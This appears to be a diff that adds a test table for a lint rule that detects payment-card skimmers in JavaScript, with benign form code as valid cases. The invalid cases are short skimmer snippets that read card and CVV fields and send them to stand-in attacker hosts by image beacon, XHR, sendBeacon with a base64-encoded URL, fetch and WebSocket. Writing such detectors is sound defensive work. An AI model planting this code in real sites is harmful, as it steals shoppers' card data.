@@ -1,0 +1,27 @@
+import rule from './skimmer.js';
+import { ruleTable } from '../test/helpers/rule-table.js';
+
+ruleTable(rule, {
+  valid: [
+    // card formatter (cleave/payment style): reads and rewrites the field, never sends
+    "var el = document.getElementById('cc-number'); el.addEventListener('input', function(){ el.value = el.value.replace(/\\D/g,'').replace(/(\\d{4})/g,'$1 ').trim(); });",
+    // honest checkout posting to its own site: low at most
+    "var n = document.getElementById('cc-number').value; fetch('/checkout/pay', {method:'POST', body: JSON.stringify({n: n})});",
+    // analytics beacon with no payment data
+    "new Image().src = 'https://stats.example/p.gif?u=' + encodeURIComponent(location.href);",
+    // validation plugin: sweeps inputs, sends nothing
+    "document.querySelectorAll('input, select').forEach(function(i){ if (!i.value) i.classList.add('error'); });",
+    // reads the card, sends something unrelated
+    "var cc = document.getElementById('card_number').value; var ok = cc.length > 12; fetch('https://api.example/ping', {method:'POST', body: 'ok'});",
+    // jQuery ajax with serialised form to a computed URL: inventory only
+    "$('form').on('submit', function(){ $.ajax({ url: this.action, data: $(this).serialize(), type: 'POST' }); });",
+  ],
+  invalid: [
+    { name: 'image beacon of base64 sweep', code: "var d = {}; document.querySelectorAll('input').forEach(function(i){ d[i.name] = i.value; }); new Image().src = 'https://cdn-js.example/p?d=' + btoa(JSON.stringify(d));", messageIds: ['skim'], severity: 'critical' },
+    { name: 'XHR of card fields by id', code: "document.getElementById('pay').onclick = function(){ var x = new XMLHttpRequest(); x.open('POST','https://evil.example/g'); x.send(document.getElementById('cardNumber').value + document.getElementById('cvv').value); };", messageIds: ['skim'], severity: 'critical' },
+    { name: 'hidden destination', code: "var u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'); navigator.sendBeacon(u, document.querySelector('#cc-number').value);", messageIds: ['skim'], severity: 'critical' },
+    { name: 'through a helper function', code: "function send(p){ fetch('https://evil.example/c', {method:'POST', body:p}); } function grab(){ return document.getElementById('cc_cvv').value; } send(grab());", messageIds: ['skim'], severity: 'critical' },
+    { name: 'websocket', code: "var ws = new WebSocket('wss://ws.example/s'); document.getElementById('card-number').addEventListener('change', function(e){ ws.send(e.target.value); });", messageIds: ['skim'], severity: 'critical' },
+    { name: 'computed destination', code: "function go(u){ var v = document.getElementById('cc-number').value; fetch(u, {method:'POST', body:v}); }", messageIds: ['skim'], severity: 'high' },
+  ],
+});
